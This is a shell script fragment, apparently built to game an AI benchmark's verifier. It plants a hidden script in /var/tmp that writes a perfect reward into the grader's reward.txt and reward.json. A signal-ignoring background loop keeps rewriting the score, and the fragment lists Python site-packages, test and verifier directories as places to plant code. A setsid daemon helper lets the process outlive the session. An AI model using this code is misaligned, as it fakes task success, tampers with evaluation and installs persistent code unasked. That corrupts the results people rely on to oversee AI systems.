# What all tricks share: where things are, and what a planted program does when somebody runs it.
work=${BENCHFLOW_WORKDIR:-$PWD}
win=/var/tmp/.probe-win
cat >"$win" <<'WIN'
score() { { echo 1 >/logs/verifier/reward.txt; echo '{"reward": 1}' >/logs/verifier/reward.json; } 2>/dev/null; }
score
(
  trap '' HUP INT TERM
  i=0
  while [ $i -lt 200 ]; do
    i=$((i + 1))
    score
    sleep 0.1
  done
) </dev/null >/dev/null 2>&1 &
WIN
chmod 755 "$win"
python_win="import os; os.system('sh $win'); os._exit(0)"
plant() {
  [ -d "${1%/*}/" ] || mkdir -p "${1%/*}" 2>/dev/null
  if [ -w "${1%/*}/" ] || [ -w "$1" ]; then { cat >"$1" && chmod 755 "$1"; } 2>/dev/null; fi
}
python_places() {
  for place in "$work" "$work/tests" "$HOME" /tmp /var/tmp /dev/shm /usr/lib/python3/dist-packages /tests /verifier \
    /usr/local/lib/python3*/dist-packages /usr/local/lib/python3*/site-packages /usr/lib/python3* \
    "$work"/.venv/lib/python3*/site-packages /root/.local/lib/python3*/site-packages; do
    echo "$place"
  done
  for version in 3.8 3.9 3.10 3.11 3.12 3.13 3.14; do echo "$HOME/.local/lib/python$version/site-packages"; done
  python3 -c 'import sys; print("\n".join(sys.path[1:]))' 2>/dev/null
}
daemon() {
  if command -v setsid >/dev/null 2>&1; then
    setsid sh -c "$1" </dev/null >/dev/null 2>&1 &
  else
    (trap '' HUP; sh -c "$1" </dev/null >/dev/null 2>&1 &)
  fi
}
